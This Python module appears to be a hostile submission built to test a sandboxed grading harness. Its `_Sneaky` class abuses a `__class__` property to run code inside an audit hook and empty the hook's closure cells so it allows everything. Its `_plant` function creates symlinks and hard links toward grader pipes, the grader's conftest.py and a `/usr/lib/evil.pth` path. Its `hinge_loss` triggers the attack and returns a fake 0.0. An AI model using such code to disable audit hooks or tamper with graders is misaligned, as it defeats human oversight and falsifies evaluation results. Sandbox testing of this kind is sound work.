"""Switch the audit hook off from inside it, then plant links where the grader might write.

The hook calls ``isinstance`` on what it is given: an object whose ``__class__`` is a property
runs this module's code inside the hook, where the hook's frame and closure are in reach; its
cells are emptied so that it allows everything. Then symbolic links named after the topic's
next modules, a report file and the grader's pipes are planted in the working folder, each
pointing at the checkout, site-packages or the output folder, in the hope that the trusted
side writes through them. Whatever of this works, the kernel must keep the rest out of reach.
"""

import os
import sys

TARGETS = ["/proc/self/fd/1", "/proc/self/fd/3", "/work/main/graders/conftest.py", "/usr/lib/evil.pth"]


class _Sneaky(str):
    @property
    def __class__(self):
        frame = sys._getframe(1)
        while frame is not None:
            function = frame.f_globals.get("install") if "install" in frame.f_globals else None
            for cell in getattr(frame.f_code, "co_freevars", ()):
                try:
                    frame.f_locals[cell] = None
                except Exception:
                    pass
            if function is not None:
                break
            frame = frame.f_back
        return str


def _disarm():
    try:
        open(_Sneaky("/nonexistent-path"))
    except BaseException:
        pass


def _plant():
    for name in ("mean_squared_error.py", "mean_absolute_error.py", "report.json", "results.json"):
        for target in TARGETS:
            try:
                os.symlink(target, name)
                break
            except OSError:
                continue
    for target in TARGETS:
        try:
            os.link(target, os.path.basename(target) + ".hard")
        except OSError:
            pass


_disarm()
_plant()


def hinge_loss(y_true, decision):
    _disarm()
    _plant()
    return 0.0
